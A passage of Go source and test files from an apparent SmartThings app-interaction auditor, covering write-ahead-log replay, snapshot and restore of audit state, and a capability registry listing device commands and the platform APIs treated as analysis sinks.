// every acknowledged batch replays into the same serving state, with the
// same revision numbering.
func TestAuditorWALReplay(t *testing.T) {
	dir := t.TempDir()
	aud := audit.NewAuditor(audit.AuditorOptions{Workers: 2})
	l := openAuditWAL(t, dir)
	aud.AttachWAL(l)
	driveBatches(t, aud)
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}

	g := audit.NewAuditor(audit.AuditorOptions{Workers: 2})
	rl := openAuditWAL(t, dir)
	if err := rl.Replay(0, g.ReplayWALRecord); err != nil {
		t.Fatalf("replay: %v", err)
	}
	g.AttachWAL(rl)
	assertAuditorsEqual(t, aud, g)

	// The recovered auditor keeps serving — and keeps logging.
	before := rl.LastLSN()
	tv, _ := corpus.Get("ComfortTV")
	if _, err := g.Apply(audit.Batch{Removes: []string{"ComfortTV"}, Upserts: []audit.App{{Source: tv.Source}}}); err != nil {
		t.Fatalf("apply after recovery: %v", err)
	}
	if rl.LastLSN() != before+1 {
		t.Fatalf("post-recovery apply appended %d records, want 1", rl.LastLSN()-before)
	}
	rl.Close()
}

// TestAuditorSnapshotRestore round-trips the store through the
// checkpoint section alone and checks the findings feed — including the
// persisted revision history — survives the restart.
func TestAuditorSnapshotRestore(t *testing.T) {
	aud := audit.NewAuditor(audit.AuditorOptions{Workers: 2})
	driveBatches(t, aud)

	var buf bytes.Buffer
	if err := aud.Snapshot(&buf); err != nil {
		t.Fatalf("Snapshot: %v", err)
	}
	g := audit.NewAuditor(audit.AuditorOptions{Workers: 2})
	if err := g.Restore(&buf); err != nil {
		t.Fatalf("Restore: %v", err)
	}
	assertAuditorsEqual(t, aud, g)

	// A client that saw revision 1 before the restart gets a delta, not a
	// Reset: the retained history came through the checkpoint.
	feed := g.FindingsSince(1)
	if feed.Reset {
		t.Fatalf("FindingsSince(1) after restore degraded to Reset; history was not persisted")
	}
	if feed.Rev != aud.Rev() {
		t.Fatalf("feed rev = %d, want %d", feed.Rev, aud.Rev())
	}

	// Both stores evolve identically from here.
	cd, _ := corpus.Get("ColdDefender")
	r1, err := aud.Apply(audit.Batch{Removes: []string{"NightCare"}, Upserts: []audit.App{{Source: cd.Source}}})
	if err != nil {
		t.Fatal(err)
	}
	r2, err := g.Apply(audit.Batch{Removes: []string{"NightCare"}, Upserts: []audit.App{{Source: cd.Source}}})
	if err != nil {
		t.Fatal(err)
	}
	if r1.Rev != r2.Rev {
		t.Fatalf("post-restore revisions diverged: %d vs %d", r2.Rev, r1.Rev)
	}
	if !bytes.Equal(marshal(t, findingThreats(r1.Added)), marshal(t, findingThreats(r2.Added))) ||
		!bytes.Equal(marshal(t, findingThreats(r1.Resolved)), marshal(t, findingThreats(r2.Resolved))) {
		t.Fatalf("post-restore delta diverged")
	}
	assertAuditorsEqual(t, aud, g)

	// Restore refuses a live store.
	if err := g.Restore(bytes.NewReader(nil)); err == nil {
		t.Fatal("Restore into a non-empty auditor succeeded")
	}
}

// TestAuditorCheckpointPlusReplay is the full recovery path: a
// checkpoint taken mid-stream plus the log replayed on top must equal
// the final state — records at or below the persisted watermark are
// skipped, records above it apply exactly once.
func TestAuditorCheckpointPlusReplay(t *testing.T) {
	dir := t.TempDir()
	aud := audit.NewAuditor(audit.AuditorOptions{Workers: 2})
	l := openAuditWAL(t, dir)
	aud.AttachWAL(l)
	src := func(name string) string {
		app, _ := corpus.Get(name)
		return app.Source
	}

	// Phase 1: some batches, then the checkpoint.
	if _, err := aud.Apply(audit.Batch{Upserts: []audit.App{{Source: src("ComfortTV")}, {Source: src("ColdDefender")}}}); err != nil {
		t.Fatal(err)
	}
	if _, err := aud.Apply(audit.Batch{Upserts: []audit.App{{Source: src("CatchLiveShow")}}}); err != nil {
		t.Fatal(err)
	}
	var ckpt bytes.Buffer
	if err := aud.Snapshot(&ckpt); err != nil {
		t.Fatal(err)
	}

	// Phase 2: more batches after the checkpoint — replay must apply
	// exactly these on top of the restore.
	if _, err := aud.Apply(audit.Batch{Removes: []string{"ColdDefender"}, Upserts: []audit.App{{Source: src("NightCare")}}}); err != nil {
		t.Fatal(err)
	}
	if _, err := aud.Apply(audit.Batch{Upserts: []audit.App{{Source: src("BurglarFinder")}}}); err != nil {
		t.Fatal(err)
	}
	l.Close()

	g := audit.NewAuditor(audit.AuditorOptions{Workers: 2})
	if err := g.Restore(&ckpt); err != nil {
		t.Fatalf("restore: %v", err)
	}
	if g.WALWatermark() == 0 {
		t.Fatal("restored watermark is 0; checkpoint lost the WAL position")
	}
	rl := openAuditWAL(t, dir)
	defer rl.Close()
	if err := rl.Replay(0, g.ReplayWALRecord); err != nil {
		t.Fatalf("replay: %v", err)
	}
	g.AttachWAL(rl)
	assertAuditorsEqual(t, aud, g)
}
