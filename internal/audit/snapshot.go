// Persistent store-auditor state: Snapshot serializes the audited store
// — apps in install order with their configurations, every pair's
// current verdict, the retained revision history and the WAL watermark —
// through the shared snapcodec framing; Restore rebuilds it in a fresh
// auditor. Persisting the revision history means a restarted store
// daemon keeps serving FindingsSince deltas from each client's last-seen
// revision instead of forcing every feed consumer through a Reset.
//
// What does NOT survive: per-revision Errors maps (failure reports to
// the submitting client, not store state — a restored Revision has a nil
// Errors map) and the index freelist (restore re-adds apps compactly, so
// slot numbers may differ; slots are internal addressing, never exposed).

package audit

import (
	"encoding/json"
	"fmt"
	"io"
	"sort"
	"time"

	"homeguard/internal/detect"
	"homeguard/internal/extractcache"
	"homeguard/internal/snapcodec"
	"homeguard/internal/symexec"
)

// Snapshot format identity for the audit-store section.
const (
	auditSnapshotMagic   = "HGAUSNP\x00"
	auditSnapshotVersion = 1
)

type auditMetaJSON struct {
	Rev     uint64 `json:"rev"`
	WalLSN  uint64 `json:"walLSN,omitempty"`
	Apps    int    `json:"apps"`    // app records following the meta record
	Pairs   int    `json:"pairs"`   // verdict records following the apps
	History int    `json:"history"` // revision records following the verdicts
}

type auditAppJSON struct {
	Name   string          `json:"name"`
	Res    json.RawMessage `json:"res"`
	Config json.RawMessage `json:"config,omitempty"`
}

type auditPairJSON struct {
	A       string          `json:"a"`
	B       string          `json:"b"`
	Threats json.RawMessage `json:"threats"`
}

// findingsJSON carries an ordered finding list: Pairs[i] names the two
// apps of the i-th finding, Threats is the parallel threat list.
type findingsJSON struct {
	Pairs   [][2]string     `json:"pairs,omitempty"`
	Threats json.RawMessage `json:"threats,omitempty"`
}

type revisionJSON struct {
	Rev        uint64       `json:"rev"`
	Added      findingsJSON `json:"added"`
	Resolved   findingsJSON `json:"resolved"`
	Apps       int          `json:"apps"`
	Pairs      int          `json:"pairs"`
	Stats      detect.Stats `json:"stats"`
	DurationNs int64        `json:"durationNs"`
}

func encodeFindings(fs []Finding) (findingsJSON, error) {
	var fj findingsJSON
	ts := make([]detect.Threat, 0, len(fs))
	for _, f := range fs {
		fj.Pairs = append(fj.Pairs, [2]string{f.App1, f.App2})
		ts = append(ts, f.Threat)
	}
	var err error
	fj.Threats, err = detect.MarshalThreats(ts)
	return fj, err
}

func decodeFindings(fj findingsJSON) ([]Finding, error) {
	ts, err := detect.UnmarshalThreats(fj.Threats)
	if err != nil {
		return nil, err
	}
	if len(ts) != len(fj.Pairs) {
		return nil, fmt.Errorf("%w: %d finding pairs but %d threats", snapcodec.ErrCorrupt, len(fj.Pairs), len(ts))
	}
	fs := make([]Finding, len(ts))
	for i := range ts {
		fs[i] = Finding{App1: fj.Pairs[i][0], App2: fj.Pairs[i][1], Threat: ts[i]}
	}
	return fs, nil
}

// Snapshot writes the auditor's durable state to w. It holds the store
// lock for the duration — checkpoints are a background operation racing
// only with Apply, which serializes on the same lock anyway.
func (a *Auditor) Snapshot(w io.Writer) error {
	a.mu.Lock()
	defer a.mu.Unlock()

	sw, err := snapcodec.NewWriter(w, auditSnapshotMagic, auditSnapshotVersion)
	if err != nil {
		return fmt.Errorf("audit: snapshot: %w", err)
	}
	write := func(v any) error {
		rec, err := json.Marshal(v)
		if err != nil {
			return err
		}
		if err := sw.Record(rec); err != nil {
			return fmt.Errorf("audit: snapshot: %w", err)
		}
		return nil
	}

	if err := write(auditMetaJSON{
		Rev: a.rev, WalLSN: a.walLSN,
		Apps: len(a.order), Pairs: len(a.verdicts), History: len(a.history),
	}); err != nil {
		return err
	}
	for _, st := range a.order {
		rb, err := extractcache.MarshalResult(&symexec.Result{App: st.app.Info, Rules: st.app.Rules})
		if err != nil {
			return fmt.Errorf("audit: snapshot: app %q: %w", st.name, err)
		}
		cb, err := detect.MarshalConfig(st.app.Config)
		if err != nil {
			return fmt.Errorf("audit: snapshot: app %q config: %w", st.name, err)
		}
		if err := write(auditAppJSON{Name: st.name, Res: rb, Config: cb}); err != nil {
			return err
		}
	}
	ids := make([]pairID, 0, len(a.verdicts))
	for id := range a.verdicts {
		ids = append(ids, id)
	}
	sort.Slice(ids, func(i, j int) bool {
		if ids[i].a != ids[j].a {
			return ids[i].a < ids[j].a
		}
		return ids[i].b < ids[j].b
	})
	for _, id := range ids {
		tb, err := detect.MarshalThreats(a.verdicts[id])
		if err != nil {
			return fmt.Errorf("audit: snapshot: pair (%s,%s): %w", id.a, id.b, err)
		}
		if err := write(auditPairJSON{A: id.a, B: id.b, Threats: tb}); err != nil {
			return err
		}
	}
	for _, rev := range a.history {
		rj := revisionJSON{
			Rev: rev.Rev, Apps: rev.Apps, Pairs: rev.Pairs,
			Stats: rev.Stats, DurationNs: rev.Duration.Nanoseconds(),
		}
		if rj.Added, err = encodeFindings(rev.Added); err != nil {
			return fmt.Errorf("audit: snapshot: rev %d: %w", rev.Rev, err)
		}
		if rj.Resolved, err = encodeFindings(rev.Resolved); err != nil {
			return fmt.Errorf("audit: snapshot: rev %d: %w", rev.Rev, err)
		}
		if err := write(rj); err != nil {
			return err
		}
	}
	if err := sw.Close(); err != nil {
		return fmt.Errorf("audit: snapshot: %w", err)
	}
	return nil
}

// Restore rebuilds the auditor from a snapshot written by Snapshot.
// Restoring is bookkeeping plus compilation (no re-extraction, no
// solving): verdicts come back verbatim, so recovery cost is independent
// of how many revisions the store has lived through. Restore into an
// auditor that has already applied a batch is an error (restore is a
// boot-time operation).
func (a *Auditor) Restore(r io.Reader) error {
	a.mu.Lock()
	defer a.mu.Unlock()
	if a.rev != 0 || len(a.order) > 0 {
		return fmt.Errorf("audit: restore: auditor is not empty (rev %d, %d apps)", a.rev, len(a.order))
	}

	sr, err := snapcodec.NewReader(r, auditSnapshotMagic, auditSnapshotVersion)
	if err != nil {
		return fmt.Errorf("audit: restore: %w", err)
	}
	read := func(what string, v any) error {
		rec, err := sr.Next()
		if err != nil {
			return fmt.Errorf("audit: restore: %s: %w", what, err)
		}
		if err := json.Unmarshal(rec, v); err != nil {
			return fmt.Errorf("%w: %s: %v", snapcodec.ErrCorrupt, what, err)
		}
		return nil
	}

	var meta auditMetaJSON
	if err := read("meta", &meta); err != nil {
		return err
	}
	for i := 0; i < meta.Apps; i++ {
		var aj auditAppJSON
		if err := read(fmt.Sprintf("app %d", i), &aj); err != nil {
			return err
		}
		res, err := extractcache.UnmarshalResult(aj.Res)
		if err != nil {
			return fmt.Errorf("audit: restore: app %q: %w", aj.Name, err)
		}
		cfg, err := detect.UnmarshalConfig(aj.Config)
		if err != nil {
			return fmt.Errorf("audit: restore: app %q config: %w", aj.Name, err)
		}
		if a.byName[aj.Name] != nil {
			return fmt.Errorf("%w: duplicate app %q", snapcodec.ErrCorrupt, aj.Name)
		}
		ia := detect.NewInstalledApp(res, cfg)
		a.compiler.Precompile(ia)
		st := &storeApp{name: aj.Name, app: ia, slot: a.idx.Add(ia.Footprint()), pos: i}
		a.slots = append(a.slots, st)
		a.order = append(a.order, st)
		a.byName[aj.Name] = st
	}
	for i := 0; i < meta.Pairs; i++ {
		var pj auditPairJSON
		if err := read(fmt.Sprintf("pair %d", i), &pj); err != nil {
			return err
		}
		if a.byName[pj.A] == nil || a.byName[pj.B] == nil {
			return fmt.Errorf("%w: pair (%s,%s) names an app not in the store", snapcodec.ErrCorrupt, pj.A, pj.B)
		}
		ts, err := detect.UnmarshalThreats(pj.Threats)
		if err != nil {
			return fmt.Errorf("audit: restore: pair (%s,%s): %w", pj.A, pj.B, err)
		}
		id := pairID{pj.A, pj.B}
		a.verdicts[id] = ts
		a.notePair(id)
		a.active += len(ts)
	}
	for i := 0; i < meta.History; i++ {
		var rj revisionJSON
		if err := read(fmt.Sprintf("revision %d", i), &rj); err != nil {
			return err
		}
		rev := &Revision{
			Rev: rj.Rev, Apps: rj.Apps, Pairs: rj.Pairs,
			Stats: rj.Stats, Duration: time.Duration(rj.DurationNs),
		}
		if rev.Added, err = decodeFindings(rj.Added); err != nil {
			return fmt.Errorf("audit: restore: rev %d: %w", rj.Rev, err)
		}
		if rev.Resolved, err = decodeFindings(rj.Resolved); err != nil {
			return fmt.Errorf("audit: restore: rev %d: %w", rj.Rev, err)
		}
		a.history = append(a.history, rev)
	}
	// Drain the trailer so the checksum verifies and the reader stops at
	// the section boundary (sections concatenate in one file).
	if _, err := sr.Next(); err != io.EOF {
		if err == nil {
			return fmt.Errorf("%w: records beyond the declared counts", snapcodec.ErrCorrupt)
		}
		return fmt.Errorf("audit: restore: %w", err)
	}
	a.rev = meta.Rev
	a.walLSN = meta.WalLSN
	return nil
}
