// WAL integration for the incremental store auditor: every acknowledged
// Apply appends exactly one OpAuditBatch record carrying the batch's
// EFFECTIVE operations — the removes that hit an installed app and the
// winning upsert per name, each upsert as its post-extraction result
// (app metadata + rules) plus configuration. Logging resolved results
// instead of raw sources makes replay deterministic and extraction-free:
// a source that extracts differently after an engine upgrade, or an
// upsert submitted as a pre-extracted Res with no source at all, replays
// identically. Failed inputs are not logged, so a replayed revision's
// Errors map is empty — per-app failures are a report to the submitting
// client, not store state.

package audit

import (
	"encoding/json"
	"fmt"

	"homeguard/internal/detect"
	"homeguard/internal/extractcache"
	"homeguard/internal/symexec"
	"homeguard/internal/wal"
)

// walUpsert is one effective upsert captured for the op record.
type walUpsert struct {
	name string
	res  *symexec.Result
	cfg  *detect.Config
}

// upsertOpJSON is one upsert inside an OpAuditBatch payload.
type upsertOpJSON struct {
	Name   string          `json:"name"`
	Res    json.RawMessage `json:"res"`
	Config json.RawMessage `json:"config,omitempty"`
}

// batchOpJSON is the payload of an OpAuditBatch record.
type batchOpJSON struct {
	Removes []string       `json:"removes,omitempty"`
	Upserts []upsertOpJSON `json:"upserts,omitempty"`
}

// AttachWAL connects the auditor to its write-ahead log. Call it after
// construction and recovery, before serving traffic: replay must run
// with the WAL detached so replayed batches are not re-appended.
func (a *Auditor) AttachWAL(l *wal.Log) {
	a.mu.Lock()
	a.wal = l
	a.mu.Unlock()
}

// WAL returns the attached log, or nil.
func (a *Auditor) WAL() *wal.Log {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.wal
}

// WALWatermark returns the LSN of the last batch reflected in the
// auditor's state (restored from a checkpoint or set by Apply/replay).
func (a *Auditor) WALWatermark() uint64 {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.walLSN
}

func encodeBatchOp(removes []string, upserts []walUpsert) ([]byte, error) {
	op := batchOpJSON{Removes: removes}
	for _, u := range upserts {
		// The synthetic Result carries exactly what replay needs to rebuild
		// the InstalledApp; extraction warnings and path counts are
		// install-time diagnostics, reported once and gone.
		rb, err := extractcache.MarshalResult(&symexec.Result{App: u.res.App, Rules: u.res.Rules})
		if err != nil {
			return nil, fmt.Errorf("audit: wal op: app %q: %w", u.name, err)
		}
		cb, err := detect.MarshalConfig(u.cfg)
		if err != nil {
			return nil, fmt.Errorf("audit: wal op: app %q config: %w", u.name, err)
		}
		op.Upserts = append(op.Upserts, upsertOpJSON{Name: u.name, Res: rb, Config: cb})
	}
	return json.Marshal(op)
}

// ReplayWALRecord applies one audit op record during boot recovery. A
// record at or below the persisted watermark is already reflected in the
// restored checkpoint and is skipped. The WAL must not be attached yet
// (replayed batches are not re-appended).
func (a *Auditor) ReplayWALRecord(lsn uint64, kind byte, payload []byte) error {
	if kind != wal.OpAuditBatch {
		return fmt.Errorf("audit: replay lsn %d: unknown op kind %d", lsn, kind)
	}
	var op batchOpJSON
	if err := json.Unmarshal(payload, &op); err != nil {
		return fmt.Errorf("audit: replay lsn %d: batch op: %w", lsn, err)
	}
	batch := Batch{Removes: op.Removes}
	for _, u := range op.Upserts {
		res, err := extractcache.UnmarshalResult(u.Res)
		if err != nil {
			return fmt.Errorf("audit: replay lsn %d: app %q: %w", lsn, u.Name, err)
		}
		cfg, err := detect.UnmarshalConfig(u.Config)
		if err != nil {
			return fmt.Errorf("audit: replay lsn %d: app %q config: %w", lsn, u.Name, err)
		}
		batch.Upserts = append(batch.Upserts, App{Name: u.Name, Res: res, Config: cfg})
	}
	_, err := a.apply(batch, lsn)
	return err
}
