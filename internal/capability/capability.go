// Package capability models the SmartThings capability system: the
// permission units through which SmartApps are granted access to devices.
// Each capability defines attributes (readable state) and commands
// (actuation). The registry mirrors the public SmartThings capabilities
// reference at the scale the paper reports: 104 capabilities protecting
// 126 device-control commands, plus the 21 sensitive SmartApp APIs of
// Table VI that the symbolic executor treats as sinks.
package capability

import (
	"sort"
	"strings"
	"sync"
)

// AttrKind is the value domain of an attribute or command parameter.
type AttrKind int

// Attribute kinds.
const (
	Enum   AttrKind = iota // finite set of string values
	Number                 // bounded integer
	Free                   // free-form string (not solver-tracked)
)

// Attribute is a readable device state element.
type Attribute struct {
	Name   string
	Kind   AttrKind
	Values []string // Enum: allowed values
	Min    int64    // Number: inclusive bounds
	Max    int64
}

// Parameter is a command parameter.
type Parameter struct {
	Name string
	Kind AttrKind
}

// Effect describes how executing a command changes an attribute.
// Exactly one of Value (a constant) or FromParam >= 0 (copy the parameter)
// is meaningful.
type Effect struct {
	Attribute string
	Value     string // constant new value ("" when FromParam >= 0)
	FromParam int    // parameter index, or -1
}

// Command is a capability-protected device command.
type Command struct {
	Name    string
	Params  []Parameter
	Effects []Effect
}

// Capability is one entry of the capability registry.
type Capability struct {
	Name       string
	Attributes []Attribute
	Commands   []Command
}

// Attr returns the named attribute, or nil.
func (c *Capability) Attr(name string) *Attribute {
	for i := range c.Attributes {
		if c.Attributes[i].Name == name {
			return &c.Attributes[i]
		}
	}
	return nil
}

// Cmd returns the named command, or nil.
func (c *Capability) Cmd(name string) *Command {
	for i := range c.Commands {
		if c.Commands[i].Name == name {
			return &c.Commands[i]
		}
	}
	return nil
}

// MainAttribute returns the capability's primary attribute name (the
// first declared one), or "".
func (c *Capability) MainAttribute() string {
	if len(c.Attributes) == 0 {
		return ""
	}
	return c.Attributes[0].Name
}

// Get looks up a capability by name. Names are accepted with or without
// the "capability." prefix.
func Get(name string) (*Capability, bool) {
	name = strings.TrimPrefix(name, "capability.")
	c, ok := registry[name]
	return c, ok
}

// The registry is populated exclusively by init-time register() calls and
// never mutated afterwards, so derived views (the sorted listing and the
// by-name lookup tables behind AttrByName/CommandsNamed, both on the
// detector's compile path) are built once on first use. Callers must
// treat the returned slices as read-only.
var derived struct {
	once          sync.Once
	all           []*Capability
	attrByName    map[string]*Attribute
	commandsNamed map[string][]CommandRef
}

func buildDerived() {
	all := make([]*Capability, 0, len(registry))
	for _, c := range registry {
		all = append(all, c)
	}
	sort.Slice(all, func(i, j int) bool { return all[i].Name < all[j].Name })
	attrs := map[string]*Attribute{}
	cmds := map[string][]CommandRef{}
	for _, c := range all {
		for i := range c.Attributes {
			a := &c.Attributes[i]
			// First declaration in sorted capability order wins, matching
			// the linear scan AttrByName used to run per call.
			if _, ok := attrs[a.Name]; !ok {
				attrs[a.Name] = a
			}
		}
		for i := range c.Commands {
			k := &c.Commands[i]
			cmds[k.Name] = append(cmds[k.Name], CommandRef{Capability: c, Command: k})
		}
	}
	derived.all = all
	derived.attrByName = attrs
	derived.commandsNamed = cmds
}

// All returns every registered capability sorted by name. The slice is
// shared; do not modify it.
func All() []*Capability {
	derived.once.Do(buildDerived)
	return derived.all
}

// CommandCount returns the total number of registered device commands.
func CommandCount() int {
	n := 0
	for _, c := range registry {
		n += len(c.Commands)
	}
	return n
}

// CommandRef identifies a command within its capability.
type CommandRef struct {
	Capability *Capability
	Command    *Command
}

// CommandsNamed returns every (capability, command) pair whose command
// name matches; command names such as on/off recur across capabilities.
// Pairs are ordered by capability name. The slice is shared; do not
// modify it.
func CommandsNamed(cmd string) []CommandRef {
	derived.once.Do(buildDerived)
	return derived.commandsNamed[cmd]
}

// resolveMemo caches ResolveCommand results. The registry is immutable
// after init, so entries never invalidate; misses are cached too (nil
// refs), keeping repeated lookups of unknown methods allocation-free.
var resolveMemo struct {
	sync.RWMutex
	m map[resolveKey]*CommandRef
}

type resolveKey struct{ capName, cmd string }

// ResolveCommand finds the command definition a granted capability's
// device would run for cmd: first within the capability itself, then
// anywhere in the registry (devices usually support more capabilities
// than the one they were granted through; ties resolve to the first
// capability in name order). Returns nil when no capability declares cmd.
// Results are memoized process-wide.
func ResolveCommand(capName, cmd string) *CommandRef {
	key := resolveKey{capName, cmd}
	resolveMemo.RLock()
	ref, ok := resolveMemo.m[key]
	resolveMemo.RUnlock()
	if ok {
		return ref
	}
	var out *CommandRef
	if c, found := Get(capName); found {
		if k := c.Cmd(cmd); k != nil {
			out = &CommandRef{Capability: c, Command: k}
		}
	}
	if out == nil {
		if refs := CommandsNamed(cmd); len(refs) > 0 {
			out = &refs[0]
		}
	}
	resolveMemo.Lock()
	if resolveMemo.m == nil {
		resolveMemo.m = map[resolveKey]*CommandRef{}
	}
	resolveMemo.m[key] = out
	resolveMemo.Unlock()
	return out
}

// IsDeviceCommand reports whether name is a registered device command in
// any capability.
func IsDeviceCommand(name string) bool {
	for _, c := range registry {
		if c.Cmd(name) != nil {
			return true
		}
	}
	return false
}

// CapabilitiesWithAttribute returns the capabilities declaring attr.
func CapabilitiesWithAttribute(attr string) []*Capability {
	var out []*Capability
	for _, c := range All() {
		if c.Attr(attr) != nil {
			out = append(out, c)
		}
	}
	return out
}

// AttrByName finds an attribute declaration anywhere in the registry —
// useful when only a subscription attribute name is known. Ties across
// capabilities resolve to the first declaring capability in name order.
func AttrByName(attr string) *Attribute {
	derived.once.Do(buildDerived)
	return derived.attrByName[attr]
}

// SinkAPIs is the set of SmartThings-provided SmartApp APIs treated as
// sinks by the symbolic executor (Table VI of the paper).
var SinkAPIs = map[string]bool{
	"httpDelete": true, "httpGet": true, "httpHead": true, "httpPost": true,
	"httpPostJson": true, "httpPut": true, "httpPutJson": true,
	"runIn":             true,
	"runEvery1Minute":   true,
	"runEvery5Minutes":  true,
	"runEvery10Minutes": true,
	"runEvery15Minutes": true,
	"runEvery30Minutes": true,
	"runEvery1Hour":     true,
	"runEvery3Hours":    true,
	"runOnce":           true,
	"schedule":          true,
	"sendHubCommand":    true,
	"sendSms":           true,
	"sendSmsMessage":    true,
	"setLocationMode":   true,
}

// SchedulingAPIs is the subset of SinkAPIs that schedule method
// executions rather than performing an action themselves.
var SchedulingAPIs = map[string]bool{
	"runIn": true, "runOnce": true, "schedule": true,
	"runEvery1Minute": true, "runEvery5Minutes": true,
	"runEvery10Minutes": true, "runEvery15Minutes": true,
	"runEvery30Minutes": true, "runEvery1Hour": true, "runEvery3Hours": true,
}

// MessagingSinks are additional notification APIs recognised as
// non-device sinks (apps that only use these define no automation rules
// over devices and are excluded from pairwise detection, Sec. VIII-B).
var MessagingSinks = map[string]bool{
	"sendSms": true, "sendSmsMessage": true, "sendPush": true,
	"sendPushMessage": true, "sendNotification": true,
	"sendNotificationEvent": true, "sendNotificationToContacts": true,
}

// IsSinkAPI reports whether name is one of the 21 Table VI APIs.
func IsSinkAPI(name string) bool { return SinkAPIs[name] }
