package capability

import "testing"

func TestRegistryScale(t *testing.T) {
	// The paper: "We consider 126 device control commands protected by 104
	// capabilities and 21 SmartApp APIs."
	if got := len(All()); got != 104 {
		t.Errorf("capability count = %d, want 104", got)
	}
	if got := CommandCount(); got != 126 {
		t.Errorf("command count = %d, want 126", got)
	}
	if got := len(SinkAPIs); got != 21 {
		t.Errorf("sink API count = %d, want 21", got)
	}
	if got := len(SchedulingAPIs); got != 10 {
		t.Errorf("scheduling API count = %d, want 10", got)
	}
}

func TestGetWithPrefix(t *testing.T) {
	c1, ok1 := Get("switch")
	c2, ok2 := Get("capability.switch")
	if !ok1 || !ok2 || c1 != c2 {
		t.Fatal("Get should accept both bare and prefixed names")
	}
	if c1.Cmd("on") == nil || c1.Cmd("off") == nil {
		t.Error("switch should define on/off")
	}
}

func TestSwitchEffects(t *testing.T) {
	c, _ := Get("switch")
	on := c.Cmd("on")
	if len(on.Effects) != 1 || on.Effects[0].Attribute != "switch" || on.Effects[0].Value != "on" {
		t.Errorf("on effects = %+v", on.Effects)
	}
	if on.Effects[0].FromParam != -1 {
		t.Errorf("constant effect should have FromParam -1")
	}
}

func TestSetLevelParamEffect(t *testing.T) {
	c, _ := Get("switchLevel")
	sl := c.Cmd("setLevel")
	if len(sl.Params) != 1 || sl.Params[0].Kind != Number {
		t.Errorf("setLevel params = %+v", sl.Params)
	}
	if len(sl.Effects) != 1 || sl.Effects[0].FromParam != 0 {
		t.Errorf("setLevel effects = %+v", sl.Effects)
	}
}

func TestLockCapability(t *testing.T) {
	c, ok := Get("lock")
	if !ok {
		t.Fatal("lock capability missing")
	}
	a := c.Attr("lock")
	if a == nil || a.Kind != Enum {
		t.Fatalf("lock attribute = %+v", a)
	}
	found := false
	for _, v := range a.Values {
		if v == "locked" {
			found = true
		}
	}
	if !found {
		t.Error("lock attribute should include value locked")
	}
}

func TestSensorOnlyCapabilities(t *testing.T) {
	for _, name := range []string{
		"motionSensor", "contactSensor", "presenceSensor",
		"temperatureMeasurement", "illuminanceMeasurement",
		"powerMeter", "energyMeter", "waterSensor", "smokeDetector",
	} {
		c, ok := Get(name)
		if !ok {
			t.Errorf("capability %q missing", name)
			continue
		}
		if len(c.Commands) != 0 {
			t.Errorf("%q should have no commands", name)
		}
		if len(c.Attributes) == 0 {
			t.Errorf("%q should declare at least one attribute", name)
		}
	}
}

func TestMainAttribute(t *testing.T) {
	c, _ := Get("temperatureMeasurement")
	if c.MainAttribute() != "temperature" {
		t.Errorf("main attribute = %q", c.MainAttribute())
	}
}

func TestCommandsNamed(t *testing.T) {
	refs := CommandsNamed("on")
	if len(refs) < 4 {
		t.Errorf("on should appear in several capabilities, got %d", len(refs))
	}
	for _, r := range refs {
		if r.Command.Name != "on" {
			t.Errorf("wrong command %q", r.Command.Name)
		}
	}
}

func TestIsDeviceCommand(t *testing.T) {
	for _, cmd := range []string{"on", "off", "lock", "unlock", "setLevel", "open", "close", "siren"} {
		if !IsDeviceCommand(cmd) {
			t.Errorf("IsDeviceCommand(%q) = false", cmd)
		}
	}
	for _, cmd := range []string{"subscribe", "sendSms", "frobnicate"} {
		if IsDeviceCommand(cmd) {
			t.Errorf("IsDeviceCommand(%q) = true", cmd)
		}
	}
}

func TestCapabilitiesWithAttribute(t *testing.T) {
	caps := CapabilitiesWithAttribute("switch")
	if len(caps) < 4 { // switch, light, outlet, bulb, relaySwitch
		t.Errorf("capabilities with switch attr = %d", len(caps))
	}
}

func TestAttrByName(t *testing.T) {
	a := AttrByName("temperature")
	if a == nil || a.Kind != Number {
		t.Fatalf("temperature attr = %+v", a)
	}
	if AttrByName("definitely-not-an-attr") != nil {
		t.Error("unknown attribute should return nil")
	}
}

func TestSinkAPIList(t *testing.T) {
	// Table VI entries.
	for _, api := range []string{
		"httpDelete", "httpGet", "httpHead", "httpPost", "httpPostJson",
		"httpPut", "httpPutJson", "runIn", "runEvery1Minute",
		"runEvery5Minutes", "runEvery10Minutes", "runEvery15Minutes",
		"runEvery30Minutes", "runEvery1Hour", "runEvery3Hours", "runOnce",
		"schedule", "sendHubCommand", "sendSms", "sendSmsMessage",
		"setLocationMode",
	} {
		if !IsSinkAPI(api) {
			t.Errorf("IsSinkAPI(%q) = false", api)
		}
	}
}

func TestEveryEffectReferencesDeclaredAttribute(t *testing.T) {
	for _, c := range All() {
		for _, cmd := range c.Commands {
			for _, e := range cmd.Effects {
				if c.Attr(e.Attribute) == nil {
					t.Errorf("%s.%s effect targets undeclared attribute %q",
						c.Name, cmd.Name, e.Attribute)
				}
				if e.FromParam >= len(cmd.Params) {
					t.Errorf("%s.%s effect FromParam %d out of range",
						c.Name, cmd.Name, e.FromParam)
				}
				if e.FromParam < 0 && e.Value == "" {
					t.Errorf("%s.%s effect has neither value nor param", c.Name, cmd.Name)
				}
			}
		}
	}
}

func TestEnumEffectsAreValidValues(t *testing.T) {
	for _, c := range All() {
		for _, cmd := range c.Commands {
			for _, e := range cmd.Effects {
				if e.FromParam >= 0 {
					continue
				}
				a := c.Attr(e.Attribute)
				if a == nil || a.Kind != Enum {
					continue
				}
				ok := false
				for _, v := range a.Values {
					if v == e.Value {
						ok = true
					}
				}
				if !ok {
					t.Errorf("%s.%s sets %s=%q which is not in %v",
						c.Name, cmd.Name, e.Attribute, e.Value, a.Values)
				}
			}
		}
	}
}
