package capability

// The registry below mirrors the 2018-era SmartThings capabilities
// reference. Helper constructors keep the table compact.

func enumAttr(name string, values ...string) Attribute {
	return Attribute{Name: name, Kind: Enum, Values: values}
}

func numAttr(name string, min, max int64) Attribute {
	return Attribute{Name: name, Kind: Number, Min: min, Max: max}
}

func freeAttr(name string) Attribute {
	return Attribute{Name: name, Kind: Free}
}

// set builds a command with no parameters that sets attr to value.
func set(cmd, attr, value string) Command {
	return Command{Name: cmd, Effects: []Effect{{Attribute: attr, Value: value, FromParam: -1}}}
}

// setFrom builds a one-parameter command that copies its parameter into attr.
func setFrom(cmd, attr string, kind AttrKind) Command {
	return Command{
		Name:    cmd,
		Params:  []Parameter{{Name: attr, Kind: kind}},
		Effects: []Effect{{Attribute: attr, FromParam: 0}},
	}
}

// plain builds a command with no modeled attribute effect.
